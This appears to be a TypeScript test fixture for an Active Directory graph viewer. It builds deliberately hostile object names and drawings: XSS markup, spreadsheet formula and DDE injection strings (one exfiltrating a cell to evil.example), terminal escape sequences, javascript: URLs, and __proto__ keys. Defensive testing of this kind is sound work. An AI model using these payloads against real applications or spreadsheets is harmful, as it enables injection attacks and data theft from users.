/** A small domain with a malicious owner: every name in it tries to be interpreted when displayed. */
import { MAX_DRAWN_OBJECTS, MAX_DRAWN_RELATIONSHIPS, type NewDrawing } from '@clew/api';

const ESCAPES = '\u001b]0;owned\u0007\u001b[2J\u009b31m\u202e\r\n\u0000';
/** Markup, control sequences, a formula, and 10 kB. */
export const HOSTILE_NAMES: readonly string[] = [
  `<script>alert(1)</script>"><img src=x onerror=alert(1)>&quot;`,
  `=HYPERLINK("http://evil.example/?"&A1,"click")`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\t=1+1`,
  `${ESCAPES}GONE${ESCAPES}`,
  `,";\r\n"x","y"`,
  '\uff1d1+1',
  'A'.repeat(10_000),
];

export const HOSTILE_DOMAIN = 'S-1-5-21-66-6-6';
const ADMINS = `${HOSTILE_DOMAIN}-512`;
const idOf = (at: number): string => `${HOSTILE_DOMAIN}-${1100 + at}`;

const file = (type: string, ...data: readonly object[]) => ({
  data,
  meta: { methods: 0x7ffff, type, count: data.length, version: 6 },
});
const named = (name: string, more: object = {}) => ({
  Properties: { name, domain: 'HOSTILE.EXAMPLE', domainsid: HOSTILE_DOMAIN, enabled: true, ...more },
});
const right = (id: string) => ({
  ...{ PrincipalSID: id, PrincipalType: 'User', RightName: 'GenericAll', IsInherited: false },
  InheritanceHash: '',
});

/** @returns files by name: users with these names that control Domain Admins and can be AS-REP roasted */
export function hostileForest(): Readonly<Record<string, object>> {
  return {
    'domains.json': file('domains', {
      ...{ ObjectIdentifier: HOSTILE_DOMAIN, Aces: [], ChildObjects: [], Trusts: [], Links: [] },
      ...named(`EVIL\u001b[31m<b>.EXAMPLE`, { collected: true, functionallevel: '2016' }),
    }),
    'groups.json': file('groups', {
      ...{ ObjectIdentifier: ADMINS, Members: [], Aces: HOSTILE_NAMES.map((_, at) => right(idOf(at))) },
      ...named('=DOMAIN ADMINS@EVIL'),
    }),
    'users.json': file(
      'users',
      ...HOSTILE_NAMES.map((name, at) => ({
        ...{ ObjectIdentifier: idOf(at), Aces: [] },
        ...named(name, { dontreqpreauth: true, hasspn: false }),
      })),
    ),
  };
}

/** @returns a drawing of nonexistent objects of maximum size: at the same position, far away, and related to themselves */
export function hostileDrawing(): NewDrawing {
  const names = HOSTILE_NAMES.map((name) => name.replaceAll('\0', '').slice(0, 1024));
  const kinds = ['__proto__', 'constructor', '<b>Kind</b>', 'Tag_Tier_Zero', 'K'.repeat(256), 'User'];
  const far = [0, 1_000_000, -1_000_000];
  return {
    ...{ name: names[0]!, description: names[4]!, shared: true },
    address: `mode=query&q=${'javascript:alert(1)#'.repeat(700)}`,
    objects: Array.from({ length: MAX_DRAWN_OBJECTS }, (_, at) => ({
      object_id: `${at} ${names[at % names.length]}`.slice(0, 200),
      ...{ name: names[at % names.length]!, kind: kinds[at % kinds.length]! },
      ...{
        x: at < 100 ? far[at % 3]! : at * 7.3,
        y: at < 100 ? far[(at >> 1) % 3]! : at,
        pinned: at % 2 === 0,
      },
    })),
    relationships: Array.from({ length: MAX_DRAWN_RELATIONSHIPS }, (_, at) => ({
      source: at % MAX_DRAWN_OBJECTS,
      kind: kinds[at % kinds.length]!,
      target: (at * at) % MAX_DRAWN_OBJECTS,
    })),
  };
}
